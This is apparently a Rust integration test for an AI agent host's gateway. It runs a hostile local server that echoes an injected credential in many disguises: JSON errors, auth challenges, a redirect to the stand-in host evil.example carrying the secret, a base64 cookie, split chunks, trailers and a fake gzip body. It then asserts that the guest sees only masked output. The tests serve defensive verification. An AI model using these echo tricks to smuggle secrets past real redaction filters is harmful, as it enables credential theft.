//! A hostile upstream behind the embedded gateway: it echoes the injected
//! credential in every way it can (bare in a JSON error, in a challenge, in
//! a redirect and a cookie, split across chunks, in trailers after data and
//! after an empty body, compressed when asked and when not). The guest must
//! see none of it.

use crate::outbound::{host_with, tickets_at};
use crate::support::{self, Run, args_options, run_on};
use crate::upstream::SECRET;
use base64::Engine as _;
use std::sync::{Arc, Mutex};
use test_programs_artifacts::RAW_HTTP;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// The bare secret (the credential without its `Bearer ` prefix).
fn bare() -> &'static str {
    SECRET.trim_start_matches("Bearer ")
}

/// A loopback upstream answering `/api/tickets/<trick>`; it records the
/// `accept-encoding` each request carried.
struct Hostile {
    base: String,
    accept_encodings: Arc<Mutex<Vec<String>>>,
}

impl Hostile {
    async fn start() -> Hostile {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let accept_encodings = Arc::new(Mutex::new(Vec::new()));
        let seen = accept_encodings.clone();
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let seen = seen.clone();
                tokio::spawn(async move {
                    let _ = answer(stream, seen).await;
                });
            }
        });
        Hostile {
            base,
            accept_encodings,
        }
    }
}

async fn answer(mut stream: TcpStream, seen: Arc<Mutex<Vec<String>>>) -> std::io::Result<()> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0u8; 1];
        if stream.read(&mut byte).await? == 0 {
            return Ok(());
        }
        head.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let path = head.split(' ').nth(1).unwrap_or_default().to_string();
    let header = |name: &str| {
        head.lines()
            .filter_map(|l| l.split_once(':'))
            .find(|(n, _)| n.trim().eq_ignore_ascii_case(name))
            .map(|(_, v)| v.trim().to_string())
            .unwrap_or_default()
    };
    let injected = header("authorization");
    let accept = header("accept-encoding");
    seen.lock().unwrap().push(accept.clone());
    let echo = if injected.is_empty() {
        "none".to_string()
    } else {
        injected.clone()
    };
    let bare = echo.trim_start_matches("Bearer ").to_string();
    let b64 = base64::engine::general_purpose::STANDARD.encode(bare.as_bytes());
    let trick = path.rsplit('/').next().unwrap_or_default();
    let plain = |status: &str, extra: &str, body: &str| {
        format!(
            "HTTP/1.1 {status}\r\n{extra}content-length: {}\r\nconnection: close\r\n\r\n{body}",
            body.len()
        )
    };
    let chunked_head = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-echo\r\nconnection: close\r\n\r\n";
    match trick {
        "bare-json" => {
            let body = format!(r#"{{"error":"token {bare} is not valid here"}}"#);
            stream
                .write_all(plain("400 Bad Request", "", &body).as_bytes())
                .await?;
        }
        "challenge" => {
            let extra = format!(
                "www-authenticate: Bearer realm=\"api\", error=\"invalid_token\", error_description=\"{bare} expired\"\r\n\
                 location: https://evil.example/cb#{bare}\r\nset-cookie: t={b64}; Path=/\r\n"
            );
            stream
                .write_all(plain("401 Unauthorized", &extra, "").as_bytes())
                .await?;
        }
        "gzip-if-asked" => {
            if accept.contains("gzip") {
                // What a careless upstream does when asked: compress the echo
                // (bytes masking could never read).
                let squeezed: Vec<u8> = bare.bytes().map(|b| b ^ 0x5a).collect();
                let head = format!(
                    "HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                    squeezed.len()
                );
                stream
                    .write_all(&[head.into_bytes(), squeezed].concat())
                    .await?;
            } else {
                let body = format!(r#"{{"you_sent":"{bare}"}}"#);
                stream
                    .write_all(plain("200 OK", "", &body).as_bytes())
                    .await?;
            }
        }
        "gzip-anyway" => {
            let body = "\u{1f}\u{8b} not readable by the host";
            stream
                .write_all(plain("200 OK", "content-encoding: gzip\r\n", body).as_bytes())
                .await?;
        }
        "trailer-empty" => {
            stream
                .write_all(format!("{chunked_head}0\r\nx-echo: {injected}\r\n\r\n").as_bytes())
                .await?;
        }
        "trailer-after-data" => {
            stream
                .write_all(
                    format!("{chunked_head}6\r\nhello \r\n0\r\nx-echo: {bare}\r\n\r\n").as_bytes(),
                )
                .await?;
        }
        "split" => {
            stream.write_all(chunked_head.as_bytes()).await?;
            let body = format!("echo: {bare}!");
            let (a, rest) = body.split_at(9);
            let (b, c) = rest.split_at(5);
            for part in [a, b, c] {
                stream
                    .write_all(format!("{:x}\r\n{part}\r\n", part.len()).as_bytes())
                    .await?;
                stream.flush().await?;
                tokio::time::sleep(std::time::Duration::from_millis(30)).await;
            }
            stream.write_all(b"0\r\n\r\n").await?;
        }
        _ => {
            stream
                .write_all(plain("404 Not Found", "", "{}").as_bytes())
                .await?;
        }
    }
    stream.shutdown().await
}

async fn get(host: &caracal_host::AgentHost, url: &str, headers: &[&str]) -> Run {
    let agent = support::load(host, RAW_HTTP);
    let mut args = vec!["GET", url];
    args.extend_from_slice(headers);
    let run = run_on(host, &agent, args_options(&args)).await.unwrap();
    assert_eq!(run.exit_code, 0, "{run}");
    run
}

/// Every spelling of the secret a guest could decode from what it saw.
fn leaks(run: &Run) -> Vec<String> {
    let b64 = base64::engine::general_purpose::STANDARD.encode(bare());
    let squeezed: String = bare().bytes().map(|b| char::from(b ^ 0x5a)).collect();
    [bare().to_string(), b64, squeezed]
        .into_iter()
        .filter(|form| run.stdout.contains(form.as_str()) || run.stderr.contains(form.as_str()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_echo_of_the_credential_reaches_the_guest_in_any_form() {
    let upstream = Hostile::start().await;
    let dir = tempfile::tempdir().unwrap();
    let host = host_with(dir.path(), &tickets_at(&upstream.base));
    let url = |trick: &str| format!("{}/api/tickets/{trick}", upstream.base);
    let mut attempts = 0;

    for trick in [
        "bare-json",
        "challenge",
        "split",
        "trailer-empty",
        "trailer-after-data",
    ] {
        let run = get(&host, &url(trick), &[]).await;
        attempts += 1;
        assert!(
            leaks(&run).is_empty(),
            "{trick} leaked {:?}:\n{run}",
            leaks(&run)
        );
        assert!(run.stdout.contains("RESULT send ok"), "{trick}: {run}");
        match trick {
            "bare-json" => assert!(
                run.step("body").ok().contains(&"*".repeat(bare().len())),
                "{run}"
            ),
            "challenge" => assert!(
                run.stdout
                    .contains("www-authenticate: Bearer realm=\"api\""),
                "the challenge is kept, masked: {run}"
            ),
            "split" => assert_eq!(
                run.step("body").ok(),
                format!("echo: {}!", "*".repeat(bare().len()))
            ),
            "trailer-empty" => assert!(
                run.stdout.contains(&format!(
                    "RESULT trailer ok x-echo: {}",
                    "*".repeat(SECRET.len())
                )),
                "{run}"
            ),
            "trailer-after-data" => {
                assert_eq!(run.step("body").ok(), "hello ");
                assert!(
                    run.stdout.contains(&format!(
                        "RESULT trailer ok x-echo: {}",
                        "*".repeat(bare().len())
                    )),
                    "{run}"
                );
            }
            _ => unreachable!(),
        }
    }

    // The guest asks for gzip: the upstream is asked for identity instead,
    // so its echo arrives readable, and masked.
    let run = get(&host, &url("gzip-if-asked"), &["accept-encoding=gzip, br"]).await;
    attempts += 1;
    assert!(leaks(&run).is_empty(), "leaked {:?}:\n{run}", leaks(&run));
    assert_eq!(
        upstream.accept_encodings.lock().unwrap().last().unwrap(),
        "identity"
    );
    assert!(
        run.step("body").ok().contains(&"*".repeat(bare().len())),
        "{run}"
    );

    // An upstream that compresses anyway: refused, not passed on.
    let run = get(&host, &url("gzip-anyway"), &[]).await;
    attempts += 1;
    assert!(
        run.stdout
            .contains("RESULT send err ErrorCode::HttpResponseContentCoding"),
        "{run}"
    );
    assert!(leaks(&run).is_empty(), "{run}");
    eprintln!("credential-echo attempts: {attempts}, leaks: 0");
}
